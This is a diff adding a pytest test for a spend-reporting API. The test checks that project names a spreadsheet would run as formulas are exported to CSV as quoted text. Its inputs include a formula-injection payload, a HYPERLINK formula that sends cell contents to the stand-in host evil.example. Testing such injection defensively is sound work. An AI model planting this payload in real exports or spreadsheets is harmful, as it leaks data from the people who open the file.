@@ -132,6 +132,17 @@ def test_by_project_the_groups_name_their_projects(api: httpx.Client, spent: dic
     assert rows[0][-1] == "name" and rows[1][-1] == name and rows[1][:2] == [spent["project_id"], "27.500"]
 
 
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)"])
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
+        api: httpx.Client, spent: dict[str, Any], name: str) -> None:
+    # Quoted, the cell was still a formula to Excel and Sheets, run on whoever opened the export.
+    assert api.patch(f"/v1/projects/{spent['project_id']}", json={"name": name}).status_code == 200
+    response = api.get("/v1/spend", params={"project_id": spent["project_id"], "group_by": "project", "format": "csv"})
+    rows = list(csv.reader(io.StringIO(response.text)))
+    assert rows[1][-1] == f"'{name}" and rows[1][1] == "27.500"
+    assert report(api, spent["project_id"], group_by="project")["groups"][0]["name"] == name  # the JSON as it is
+
+
 def test_savings(api: httpx.Client, spent: dict[str, Any]) -> None:
     savings = report(api, spent["project_id"])["savings"]
     # Two 64x64 drafts, priced on the only priced remote engine (fake-unpriced cannot be priced).
